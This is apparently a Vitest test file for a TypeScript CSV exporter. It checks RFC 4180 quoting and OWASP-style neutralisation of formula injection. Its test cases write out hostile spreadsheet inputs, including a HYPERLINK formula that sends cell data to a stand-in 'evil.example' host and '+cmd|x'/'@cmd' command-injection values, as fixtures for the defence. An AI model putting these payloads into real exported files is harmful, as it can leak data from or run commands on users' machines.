import { describe, expect, it } from 'vitest';
import { csvCell, csvCellValue, csvText } from './index.ts';

describe('csvCell', () => {
  it('quotes every cell, doubling the quotes inside (RFC 4180)', () => {
    expect(csvCell('Peña')).toBe('"Peña"');
    expect(csvCell('Santos, Jr.')).toBe('"Santos, Jr."');
    expect(csvCell('Ma. "Tess"')).toBe('"Ma. ""Tess"""');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvCell('')).toBe('""');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(true)).toBe('"true"');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
    ],
    ['=1+1', `"'=1+1"`],
    ['+cmd|x', `"'+cmd|x"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    // The OWASP rule has no exception: a phone number or a negative number is shown as text too.
    ['+639171234567', `"'+639171234567"`],
    ['-5', `"'-5"`],
  ])('neutralises %j, which a spreadsheet would run as a formula', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves a formula character that is not at the start alone', () => {
    expect(csvCell('Ana=Reyes')).toBe('"Ana=Reyes"');
    expect(csvCell(' =1+1')).toBe('" =1+1"');
    expect(csvCell("O'Brien")).toBe(`"O'Brien"`);
  });
});

describe('csvCellValue', () => {
  it('gives back the value csvCell neutralised, so an exported file imports as it is', () => {
    for (const value of [
      '=1+1',
      '+639171234567',
      '-5',
      '@cmd',
      '\tx',
      '\rx',
      'Peña',
      "O'Brien",
      "'quoted'",
    ]) {
      expect(csvCellValue(csvCell(value).slice(1, -1).replace(/""/g, '"'))).toBe(value);
    }
  });

  it('keeps an apostrophe that does not guard a formula character', () => {
    expect(csvCellValue("'Tess")).toBe("'Tess");
    expect(csvCellValue("'")).toBe("'");
    expect(csvCellValue('')).toBe('');
  });
});

describe('csvText', () => {
  it('is a UTF-8 byte-order mark, a header and the rows, every cell quoted, lines ending in CRLF', () => {
    expect(
      csvText(
        ['name', 'mobile'],
        [
          ['=HYPERLINK("x")', '+639171234567'],
          [null, '@cmd'],
        ],
      ),
    ).toBe(`\uFEFF"name","mobile"\r\n"'=HYPERLINK(""x"")","'+639171234567"\r\n"","'@cmd"\r\n`);
    expect(csvText(['only'], [])).toBe('\uFEFF"only"\r\n');
  });
});
